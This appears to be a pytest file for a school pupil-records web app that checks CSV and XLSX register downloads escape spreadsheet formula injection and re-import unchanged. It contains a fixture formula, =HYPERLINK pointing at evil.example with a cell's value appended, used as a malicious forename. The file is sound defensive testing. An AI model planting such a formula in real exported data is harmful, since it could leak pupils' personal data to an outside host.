"""Spreadsheet formula injection: downloads never carry a live formula, and read back unchanged."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from fixtures_transfer import upn
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from trellis.lib.tables import csv_response, escape_cell, unescape_cell, xlsx_response
from trellis.pupils.models import Pupil
from trellis.pupils.register import DOWNLOAD_HEADINGS
from trellis.transfer.parsers import ParseReport, read_pupils
from trellis.transfer.services import import_pupils

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Click me")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+44 1234", "'+44 1234"),
        ("-2+3", "'-2+3"),  # Excel would add these up
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),  # a name that really starts with a quote keeps it on the way back
        ("-", "'-"),
        ("O'Brien", "O'Brien"),
        ("'Quoted'", "'Quoted'"),
        ("Smith-Jones", "Smith-Jones"),
        ("-2", "-2"),  # text that is just a number stays a number
        ("-0.25", "-0.25"),
        (-3, -3),
        (-0.5, -0.5),
        ("", ""),
    ],
)
def test_text_that_would_run_as_a_formula_is_quoted_and_numbers_are_not(value, written):
    assert escape_cell(value) == written
    assert unescape_cell(written) == value


@pytest.mark.parametrize("value", ["'x", "'", "''", "'1", "' =x"])
def test_a_quote_not_followed_by_a_formula_character_is_part_of_the_value(value):
    assert unescape_cell(value) == value


@pytest.mark.fuzz
@settings(max_examples=300, derandomize=True, deadline=None)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\r0123.aZ "), max_size=8))
def test_escaping_is_undone_exactly(value):
    written = escape_cell(value)
    assert unescape_cell(written) == value
    assert written[:1] not in {"=", "+", "@", "\t", "\r"}
    assert not written.startswith("-") or written.lstrip("-").replace(".", "", 1).isdecimal()


def test_csv_and_xlsx_downloads_escape_headings_and_cells_but_keep_numbers():
    rows = [["=1+2", -4, "-4", 2.5]]
    text = csv_response("t", ["@heading", "n"], rows).content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [["'@heading", "n"], ["'=1+2", "-4", "-4", "2.5"]]

    sheet = load_workbook(io.BytesIO(xlsx_response("t", ["@heading", "n"], rows).content)).active
    assert [cell.value for cell in sheet[1]][:2] == ["'@heading", "n"]
    assert [cell.value for cell in sheet[2]] == ["'=1+2", -4, "-4", 2.5]
    assert [cell.data_type for cell in sheet[2]] == ["s", "n", "s", "n"]  # no "f": nothing is a formula


def _csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


@pytest.fixture
def evil_pupil(world):
    """A forename that is a formula, imported from a CSV as a school's MIS export might carry it."""
    data = _csv(
        [
            ["UPN", "Legal Surname", "Legal Forename", "DOB", "Gender", "Year", "SEN Status"],
            [upn(901), "-Minus", EVIL, "2017-01-01", "F", "4", "K"],
        ]
    )
    plan = import_pupils(school=world.school_a, source=io.BytesIO(data), file_name="mis.csv", by=world.senco)
    assert plan.applied and not plan.problems
    return Pupil.objects.get(upn=upn(901))


def _read_back(data: bytes, name: str):
    report = ParseReport(file=name)
    records = list(read_pupils(io.BytesIO(data), file_name=name, report=report))
    assert not report.problems
    return {record.upn: record for record in records}


def test_register_csv_quotes_the_formula_and_the_importer_reads_it_back(world, login, evil_pupil):
    assert evil_pupil.legal_forename == EVIL
    response = login(world.senco).get(reverse("register-download", args=[world.school_a.urn, "csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(row for row in rows if row[0] == upn(901))
    assert row[DOWNLOAD_HEADINGS.index("Legal Forename")] == "'" + EVIL
    assert row[DOWNLOAD_HEADINGS.index("Legal Surname")] == "'-Minus"

    record = _read_back(response.content, "register.csv")[upn(901)]
    assert record.fields["legal_forename"] == EVIL
    assert record.fields["legal_surname"] == "-Minus"


def test_register_xlsx_holds_text_not_a_formula_and_the_importer_reads_it_back(world, login, evil_pupil):
    response = login(world.senco).get(reverse("register-download", args=[world.school_a.urn, "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == upn(901))
    forename = row[DOWNLOAD_HEADINGS.index("Legal Forename")]
    assert (forename.value, forename.data_type) == ("'" + EVIL, "s")

    record = _read_back(response.content, "register.xlsx")[upn(901)]
    assert record.fields["legal_forename"] == EVIL
    assert record.fields["legal_surname"] == "-Minus"


def test_reimporting_the_register_download_changes_nothing(world, login, evil_pupil):
    response = login(world.senco).get(reverse("register-download", args=[world.school_a.urn, "csv"]), {"q": "Minus"})
    plan = import_pupils(
        school=world.school_a, source=io.BytesIO(response.content), file_name="register.csv", by=world.senco
    )
    assert plan.applied and not plan.problems
    assert (plan.created, plan.updated, plan.unchanged) == (0, 0, 1)
    evil_pupil.refresh_from_db()
    assert (evil_pupil.legal_forename, evil_pupil.legal_surname) == (EVIL, "-Minus")
